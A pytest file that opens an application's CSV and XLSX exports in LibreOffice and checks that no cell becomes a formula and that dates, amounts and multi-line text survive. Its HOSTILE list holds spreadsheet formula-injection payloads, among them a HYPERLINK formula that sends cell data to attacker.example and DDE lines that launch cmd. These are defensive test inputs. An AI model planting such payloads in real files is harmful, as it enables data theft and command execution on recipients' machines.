"""What LibreOffice makes of the files: dates and amounts are such, texts are texts, and nothing is a formula."""

import csv
from dataclasses import dataclass, replace
from itertools import pairwise
from pathlib import Path

import pypdfium2
import pytest

from api.exports.formats import xlsx_file
from api.exports.formats.csv_file import harmless
from models.rules.exports.columns import CellKind
from models.rules.exports.files import ExportFormat
from tests.api.exports.written import COLUMNS, file_of, row
from tests.behaviour.exports.files import Typed, letters, moment_of, sheets
from tests.machines.office import converted

HOSTILE = [
    f"{before}{sign}1+1{after}"
    for sign in ("=", "+", "-", "@SUM", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    for before in (
        "",
        " ",
        "\u00a0",
        '"',
        "\t",
        "\n",
        "\r\n",
        "foo;",
        "foo; ",
        'a;"',
        "a\tb\n- c\n",
        "x,",
    )
    for after in ("", ";x", '"', "\n;")
] + [
    '=HYPERLINK("http://attacker.example/?"&A2,"Open")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    'DDE;=DDE("cmd";"/C calc";"x");',
]
PLAIN = [
    "Größe & Straße <b>„Titel“</b>",
    "Donaudampfschifffahrtsgesellschaftskapitänsmützenabzeichen " * 6,
    "שלב ראשון: עיצוב האתר",
    "المرحلة الأولى: التصميم",
    "設計と開発 \U0001f680",
    'He said "yes", twice',
    "a\nb\nc",
    "_x000D_ stays what it is",
    "1E5 stays text",
    "it's",
]
READ_BY = {
    "English, by commas": "CSV:44,34,76,1,,1033,false,true",
    "German, by semicolons": "CSV:59,34,76,1,,1031,false,true",
    "by tabs, commas and semicolons": "CSV:9/44/59,34,76,1,,1033,false,true",
}


@dataclass(frozen=True)
class Opened:
    """A file of CSV as LibreOffice has it: by letters the cells of each row, and whether any is a formula."""

    rows: list[dict[str, Typed]]
    formulas: int


def opened(files: dict[str, bytes], folder: Path, by: str) -> dict[str, Opened]:
    """By name, the files as LibreOffice has them."""
    source, there = folder / "source", folder / "there"
    source.mkdir()
    there.mkdir()
    for name, body in files.items():
        (source / f"{name}.csv").write_bytes(body)
    paths = converted(sorted(source.iterdir()), "xlsx:Calc MS Excel 2007 XML", there, by=by)
    return {path.stem: _opened(path.read_bytes()) for path in paths}


def _opened(book: bytes) -> Opened:
    (rows,) = sheets(book, formulas=True).values()
    found = [cell for row in rows for cell in row.values() if cell.type == "formula"]
    return Opened(rows, len(found))


@pytest.mark.parametrize("by", READ_BY)
def test_nothing_in_csv_is_a_formula_however_it_is_opened(by: str, tmp_path: Path) -> None:
    ours = file_of(ExportFormat.CSV, [row(text) for text in HOSTILE])
    careless = "\ufeffa,b\r\n" + "".join(f'{text},"x;{text};"\r\n' for text in ("=1+1", "=2*3"))
    there = opened({"ours": ours, "careless": careless.encode()}, tmp_path, READ_BY[by])
    assert there["careless"].formulas > 0, "they would be formulas if we let them"
    assert there["ours"].formulas == 0
    assert len(there["ours"].rows) > len(HOSTILE)


def test_dates_amounts_and_texts_of_csv_are_read_as_such(tmp_path: Path) -> None:
    texts = [*PLAIN, "=1+1"]
    ours = file_of(ExportFormat.CSV, [row(text, "999999999999.99") for text in texts])
    _, *rows = opened({"ours": ours}, tmp_path, READ_BY["English, by commas"])["ours"].rows
    for text, cells in zip(texts, rows, strict=True):
        said = dict(zip(CellKind, (cells[letter] for letter in letters(6)), strict=True))
        assert said[CellKind.TEXT] == replace(said[CellKind.TEXT], type="s", text=harmless(text))
        assert (said[CellKind.NUMBER].type, said[CellKind.NUMBER].text) == ("n", "7")
        assert (said[CellKind.TRUTH].type, said[CellKind.TRUTH].text) == ("b", "1")
        assert (said[CellKind.AMOUNT].type, said[CellKind.AMOUNT].text) == ("n", "999999999999.99")
        assert said[CellKind.DATE].type == said[CellKind.INSTANT].type == "n"
        assert moment_of(said[CellKind.DATE].text).isoformat() == "2026-11-23T00:00:00+00:00"
        assert moment_of(said[CellKind.INSTANT].text).isoformat() == "2026-11-23T09:30:05+00:00"


def test_libreoffice_reads_from_a_workbook_what_was_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(xlsx_file, "ROWS_OF_A_SHEET", 20)
    texts = [text for text in HOSTILE if "\t" not in text and "\r" not in text][:25] + PLAIN
    source = tmp_path / "book.xlsx"
    source.write_bytes(file_of(ExportFormat.XLSX, [row(text) for text in texts]))
    there = tmp_path / "there"
    there.mkdir()
    by_sheet = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1"
    converted([source], by_sheet, there)
    first, second = (_lines(there / f"book-{name}.csv") for name in ("Milestones", "Milestones 2"))
    assert first[0] == second[0] == [column.name for column in COLUMNS]
    assert len(first) == 1 + 20
    shown = ["7", "TRUE", "1,250.00", "2026-11-23", "2026-11-23 09:30:05"]
    assert first[1:] + second[1:] == [[text, *shown] for text in texts]


def test_a_text_of_several_lines_stays_in_its_row(tmp_path: Path) -> None:
    texts = ["above", "first\nsecond\nthird", "below", "\n".join(map(str, range(2_000))), "last"]
    source, there = tmp_path / "book.xlsx", tmp_path / "there"
    source.write_bytes(file_of(ExportFormat.XLSX, [row(text) for text in texts]))
    there.mkdir()
    (picture,) = converted([source], "pdf", there)
    drawn = first_column(picture)
    assert [each.text for each in drawn[:6]] == [
        "text",
        "above",
        "first",
        "second",
        "third",
        "below",
    ]
    assert "last" in [each.text for each in drawn], "all lines are on the page"
    for upper, lower in pairwise(drawn):
        assert lower.top < upper.bottom, (upper.text, lower.text)


@dataclass(frozen=True)
class LineDrawn:
    """A line of text on a page, and where it begins and ends above the foot of it."""

    text: str
    top: float
    bottom: float


def first_column(picture: Path) -> list[LineDrawn]:
    """The lines of the first column of the first page, from above."""
    (page, *_) = pypdfium2.PdfDocument(picture)
    texts = page.get_textpage()
    boxes = [texts.get_rect(number) for number in range(texts.count_rects())]
    lines = [
        LineDrawn(texts.get_text_bounded(*box).strip(), top=box[3], bottom=box[1])
        for box in boxes
        if box[0] < _SECOND_COLUMN
    ]
    return sorted(lines, key=lambda line: -line.top)


_SECOND_COLUMN = 200.0
"""Points from the left."""


def _lines(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))
